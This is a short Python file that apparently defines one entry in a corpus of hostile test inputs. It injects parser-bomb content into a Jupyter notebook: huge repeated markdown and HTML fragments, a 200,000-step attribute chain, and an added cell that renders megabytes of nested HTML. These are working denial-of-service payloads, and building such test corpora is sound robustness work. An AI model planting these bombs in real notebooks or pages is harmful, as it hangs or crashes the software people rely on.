"""Writes what parsers of HTML, markdown and Python take minutes for."""

from hostile.corpus import Attack
from nbformat.v4 import new_code_cell, new_markdown_cell


def more(notebook):
    for bomb in ("<div>", "***a", "\\begin{", "[a](", "| a\n", "- " * 9):
        text = bomb * (400_000 // len(bomb))
        notebook.cells.append(new_markdown_cell(text))
    notebook.cells.append(new_code_cell("0;" + "a." * 200_000))


attack = Attack(
    starts="right",
    added={
        "check-pad1d": """
from IPython.display import HTML, display
for bomb in ("<div>", "<b><p>", "<table><td>", "<a href=x>", "<!--"):
    display(HTML(bomb * (1_000_000 // len(bomb))))
print("TRIED")
"""
    },
    changes=more,
    tried=True,
)
